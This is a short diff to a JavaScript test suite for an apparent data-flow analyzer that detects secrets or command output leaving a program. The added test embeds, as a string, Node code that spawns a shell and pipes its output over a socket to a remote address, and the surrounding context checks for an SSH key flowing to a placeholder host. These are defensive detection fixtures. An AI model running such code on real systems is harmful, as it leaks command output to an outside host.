@@ -67,4 +67,9 @@ describe('streams', () => {
       assert.ok(sent(end).includes('ssh-key>network@collect.invalid'), end);
     assert.deepEqual(sent(`.pipe(${cipher}).pipe(process.stdout);`), []);
   });
+
+  it('into a socket go where that was connected to later', () => {
+    const code = `const line = new (require('net').Socket)(); line.connect(8443, '198.51.100.24'); cp.spawn('sh').stdout.pipe(line);`;
+    assert.ok(flowsOf(code).includes('command-output>network@198.51.100.24'));
+  });
 });
